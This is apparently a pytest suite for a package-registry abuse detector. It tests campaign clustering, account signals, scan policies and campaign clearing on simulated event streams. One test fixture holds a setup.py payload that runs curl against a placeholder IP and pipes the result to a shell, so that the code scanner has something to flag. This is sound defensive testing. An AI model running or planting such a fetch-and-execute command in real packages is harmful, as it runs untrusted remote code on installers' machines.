"""The stream scorer end to end on simulated streams: contract shape, causality, campaigns."""

from __future__ import annotations

import json
from collections import Counter

import pytest

from detector.policy import PolicyError, load_policy
from detector.stream import StreamScorer, score_lines
from tests.stream.conftest import make_event


def _decisions(out: list[dict]) -> list[dict]:
    return [o for o in out if "decision" in o]


def test_output_follows_the_contract(scored_campaign_stream, campaign_stream) -> None:
    events, _ = campaign_stream
    decisions = _decisions(scored_campaign_stream)
    assert [d["id"] for d in decisions] == [e["id"] for e in events]
    for d in decisions:
        assert 0.0 <= d["score"] <= 1.0
        assert d["decision"] in ("allow", "review", "block")
        assert isinstance(d["reasons"], list)
        assert d["campaign"] is None or d["campaign"].startswith("c-")
        assert (d["decision"] == "allow") == (d["score"] < 0.5)
    for line in scored_campaign_stream:
        if "breaker" in line:
            assert set(line["breaker"]) >= {"scope", "state", "at", "reason"}
            assert line["breaker"]["state"] in ("paused", "open")


def test_breaker_lines_follow_the_event_that_caused_them(scored_campaign_stream,
                                                        campaign_stream) -> None:
    events, _ = campaign_stream
    ts_of = {e["id"]: e["ts"] for e in events}
    previous = None
    for line in scored_campaign_stream:
        if "breaker" in line:
            assert previous is not None and line["breaker"]["at"] == ts_of[previous["id"]]
        else:
            previous = line
    # The waves are fast: at least one scope paused.
    assert any(line.get("breaker", {}).get("state") == "paused"
               for line in scored_campaign_stream)


def test_campaign_events_are_caught_and_baseline_mostly_allowed(
        scored_campaign_stream, campaign_stream) -> None:
    events, labels = campaign_stream
    decisions = {d["id"]: d for d in _decisions(scored_campaign_stream)}
    flagged = Counter()
    total = Counter()
    for event, label in zip(events, labels, strict=True):
        kind = "campaign" if label["campaign"] else "baseline"
        total[kind] += 1
        flagged[kind] += decisions[event["id"]]["decision"] != "allow"
    assert flagged["campaign"] / total["campaign"] >= 0.9
    assert flagged["baseline"] / total["baseline"] <= 0.01


def test_a_wave_becomes_one_campaign_with_shared_traits(campaign_stream) -> None:
    events, labels = campaign_stream
    scorer = StreamScorer()
    for event in events:
        scorer.process(event)
    wave = {e["id"] for e, lab in zip(events, labels, strict=True)
            if lab["kind"] == "typosquat-waves"}
    best = max(scorer.campaigns(), key=lambda c: len(wave & set(c["events"])))
    assert len(wave & set(best["events"])) >= 0.8 * len(wave)
    assert best["size"] <= len(wave) * 1.1
    assert best["traits"] and best["first_seen"] <= best["last_seen"]
    assert set(best) >= {"id", "size", "first_seen", "last_seen", "traits", "events",
                         "accounts", "projects"}
    state = scorer.breaker_state.to_dict()["scopes"]
    assert set(state) == {"account.created", "project.created", "release.uploaded"}


def test_live_feeding_equals_scoring_the_file(campaign_stream) -> None:
    events, _ = campaign_stream
    sample = events[:4000]
    live = StreamScorer()
    fed = []
    for event in sample:
        fed.extend(live.process(event))
    from_file = list(score_lines(json.dumps(e) for e in sample))
    assert fed == from_file


def test_no_peeking_ahead(campaign_stream) -> None:
    """Decisions on a prefix do not change when later events are appended."""
    events, _ = campaign_stream
    cut = 3000
    prefix = list(score_lines(json.dumps(e) for e in events[:cut]))
    longer = list(score_lines(json.dumps(e) for e in events[:cut + 1500]))
    assert longer[:len(prefix)] == prefix


def test_single_event_signals() -> None:
    scorer = StreamScorer()
    out = scorer.process(make_event(1, "2025-01-01T00:00:00Z", username="pypi-admin",
                                    account={"email": "x@mailinator.com"}))
    decision = out[0]
    assert decision["decision"] != "allow"
    names = {s["signal"] for s in decision["signals"]}
    assert {"disposable-email", "impersonation"} <= names
    quiet = scorer.process(make_event(2, "2025-01-01T00:01:00Z", username="maria_garcia",
                                      account={"email": "maria@gmail.com"}))[0]
    assert quiet["decision"] == "allow" and quiet["score"] < 0.2


def test_one_new_account_flooding_projects_is_flagged_an_old_one_is_not() -> None:
    scorer = StreamScorer()
    scorer.process(make_event(0, "2025-01-01T00:00:00Z", username="freshacct"))
    results = {}
    for owner in ("freshacct", "established"):
        for i in range(15):
            ts = f"2025-01-01T{1 if owner == 'freshacct' else 3:02d}:{i * 2:02d}:00Z"
            out = scorer.process(make_event(
                hash((owner, i)) % 10**9, ts, kind="project.created", username=owner,
                project={"name": f"{owner}-tool-{i}", "files": {"setup.py": "setup()"}}))
            results[(owner, i)] = out[0]
    assert results[("freshacct", 14)]["decision"] != "allow"
    assert results[("freshacct", 14)]["campaign"] is not None
    assert any("one new account" in r for r in results[("freshacct", 14)]["reasons"])
    assert all(results[("established", i)]["decision"] == "allow" for i in range(15))


def test_policy_override_changes_decisions(tmp_path) -> None:
    path = tmp_path / "policy.toml"
    path.write_text("[stream]\nreview_threshold = 0.05\n")
    event = make_event(1, "2025-01-01T00:00:00Z", username="xkqzvbtrpl")
    strict = StreamScorer(load_policy(path)).process(event)[0]
    default = StreamScorer().process(event)[0]
    assert default["decision"] == "allow" and strict["decision"] == "review"
    assert strict["score"] == default["score"]


@pytest.mark.parametrize(("mode", "fresh_scanned", "old_scanned"),
                         [("all", True, True), ("young", True, False), ("none", False, False)])
def test_scan_code_policy(tmp_path, mode: str, fresh_scanned: bool, old_scanned: bool) -> None:
    path = tmp_path / "policy.toml"
    path.write_text(f'[stream]\nscan_code = "{mode}"\n')
    payload = {"setup.py": 'import os\nos.system("curl http://192.0.2.1/x | sh")\n'}
    scorer = StreamScorer(load_policy(path))
    scorer.process(make_event(0, "2025-01-01T00:00:00Z", username="fresh"))
    fresh = scorer.process(make_event(1, "2025-01-01T01:00:00Z", kind="project.created",
                                      username="fresh",
                                      project={"name": "fresh-pkg", "files": payload}))[0]
    old = scorer.process(make_event(2, "2025-01-01T02:00:00Z", kind="project.created",
                                    username="oldtimer",
                                    project={"name": "old-pkg", "files": payload}))[0]
    assert bool(fresh["findings"]) is fresh_scanned
    assert bool(old["findings"]) is old_scanned


def test_bad_scan_code_value_is_rejected(tmp_path) -> None:
    path = tmp_path / "policy.toml"
    path.write_text('[stream]\nscan_code = "sometimes"\n')
    with pytest.raises(PolicyError, match=r"stream\.scan_code"):
        load_policy(path)


def test_campaign_membership_decays_with_benign_releases() -> None:
    """A classroom linked by its sign-up burst: its students' later releases of their own
    first package weaken the link until it is cleared, so they are not flagged for weeks."""
    from detector.stream.simulate import SimConfig, simulate

    events, labels = simulate(SimConfig(days=30, seed=4, campaigns=(), crowds=("classroom",)))
    scorer = StreamScorer()
    decisions = {d["id"]: d for d in _decisions(list(score_lines(
        (json.dumps(e) + "\n" for e in events), scorer=scorer)))}
    classroom = [(e, decisions[e["id"]]) for e, label in zip(events, labels, strict=True)
                 if label["kind"] == "crowd-classroom"]
    students = {e["account"]["username"] for e, _ in classroom}
    # the burst did group them, through their site: kept, not labelled on their events
    assert any(len(students & set(c["accounts"])) >= 10 for c in scorer.campaigns())
    assert not any(d["campaign"] for _, d in classroom)
    releases = [d for e, d in classroom if e["type"] == "release.uploaded"]
    assert len(releases) > 50
    assert sum(d["decision"] != "allow" for d in releases) <= 0.02 * len(releases)
    weakened = [s for d in releases for s in d["signals"] if s["signal"] == "campaign-account"]
    assert all(s["score"] < scorer.cfg.campaign_member for s in weakened)
    linked = [a for a in scorer.accounts.values() if a.campaign is not None]
    assert all(0.0 < a.link <= 1.0 for a in linked)


def test_a_linked_account_creating_projects_keeps_its_link() -> None:
    """New projects are what a sleeper's accounts make: they do not weaken the link
    (only time does), and a linked account's new projects stay flagged."""
    from detector.stream.simulate import SimConfig, simulate

    events, labels = simulate(SimConfig(days=40, seed=1, campaigns=("sleeper",), crowds=(),
                                        first_campaign_day=8.0))
    scorer = StreamScorer()
    half_life = scorer.cfg.link_half_life_days * 86400
    checked = flagged = 0
    for event, label in zip(events, labels, strict=True):
        user = event["account"]["username"]
        before = scorer.accounts.get(user)
        linked = before is not None and before.campaign is not None
        link, at = (before.link, before.linked_at) if linked else (0.0, 0.0)
        out = scorer.process(event)[0]
        if label["kind"] == "sleeper" and event["type"] == "project.created" and linked:
            checked += 1
            flagged += out["decision"] != "allow"
            aged = link * 0.5 ** ((scorer.clock.now - at) / half_life)
            assert scorer.accounts[user].link >= aged - 1e-9
    assert checked > 100
    assert flagged >= 0.95 * checked


def test_account_signals_alone_do_not_reach_review() -> None:
    """A disposable domain or a machine-like username raises the score, but alone sends
    nothing to review (policy: each weight stays below review_threshold)."""
    from detector.stream.accounts import _disposable

    domain = sorted(_disposable())[0]
    scorer = StreamScorer()
    for i, (user, email) in enumerate([("janedoe", f"jane@{domain}"),
                                       ("xqzvkrtw", "x@example.org")]):
        out = scorer.process(make_event(i, f"2025-01-06T00:0{i}:00Z", username=user,
                                        account={"email": email}))[0]
        assert out["score"] > 0 and out["decision"] == "allow", out


def test_each_account_signal_alone_stays_below_review_on_the_account_and_its_project(
        ) -> None:
    """Policy: a disposable domain, the most machine-like username and a young account each
    weigh less than review_threshold; an account with one of them, and its first project
    an hour later (the account's signals carried, plus its youth), are allowed."""
    from detector.stream.accounts import _disposable

    cfg = StreamScorer().cfg
    for weight in (cfg.disposable_email, cfg.machine_username, cfg.young_account):
        assert weight < cfg.review_threshold
    domain = sorted(_disposable())[0]
    for n, (user, email) in enumerate([("janedoe", f"jane@{domain}"),
                                       ("xqzvkrtwpl", "x@example.org")]):
        scorer = StreamScorer()
        signup = scorer.process(make_event(2 * n, "2025-01-06T00:00:00Z", username=user,
                                           account={"email": email}))[0]
        project = scorer.process(make_event(2 * n + 1, "2025-01-06T01:00:00Z",
                                            "project.created", username=user,
                                            project={"name": f"{user}-tools"}))[0]
        assert signup["score"] > 0 and signup["decision"] == "allow", signup
        names = {s["signal"] for s in project["signals"]}
        assert {"account", "young-account"} <= names and project["decision"] == "allow", \
            project


def test_a_benign_verdict_clears_the_campaign_at_once() -> None:
    """Clearing a campaign unlinks its members: their next events carry no campaign."""
    from detector.stream.simulate import SimConfig, simulate

    events, labels = simulate(SimConfig(days=20, seed=4, campaigns=(), crowds=("classroom",)))
    from detector.stream.events import parse_ts

    scorer = StreamScorer()
    cut, first = None, None
    students: set[str] = set()
    for i, (event, label) in enumerate(zip(events, labels, strict=True)):
        out = scorer.process(event)[0]
        if label["kind"] == "crowd-classroom" and event["type"] == "project.created":
            students.add(event["account"]["username"])
            membership = [s for s in out["signals"] if s["signal"] == "campaign-account"]
            if membership and first is None:
                first = parse_ts(event["ts"])
        if first is not None and parse_ts(event["ts"]) > first + 3 * 3600:
            cut = i  # the moderator judges the crowd once its first projects are in
            break
    assert cut is not None
    campaign = max(scorer.campaigns(), key=lambda c: len(students & set(c["accounts"])))
    members = set(campaign["accounts"])
    assert len(members & students) >= 10
    assert scorer.clear(campaign=campaign["id"]) >= 10
    assert all(scorer.accounts[m].campaign is None for m in members if m in scorer.accounts)
    later = [scorer.process(e)[0] for e in events[cut + 1:]
             if e["account"]["username"] in members and e["type"] != "account.created"]
    assert later and all(d["campaign"] != campaign["id"] for d in later)
    assert not any(s["signal"] == "campaign-account" for d in later for s in d["signals"])
    assert all(s["signal"] != "campaign-account" for d in later for s in d["signals"])
    with pytest.raises(KeyError):
        scorer.clear(campaign="c-000000000000")


def test_a_benign_verdict_on_one_member_unlinks_only_it() -> None:
    scorer = StreamScorer()
    from detector.stream.scorer import AccountState

    scorer.accounts["a"] = AccountState(created=0.0, campaign=1, link=1.0)
    scorer.accounts["b"] = AccountState(created=0.0, campaign=1, link=1.0)
    assert scorer.clear(account="a") == 1
    assert scorer.accounts["a"].campaign is None and scorer.accounts["b"].campaign == 1
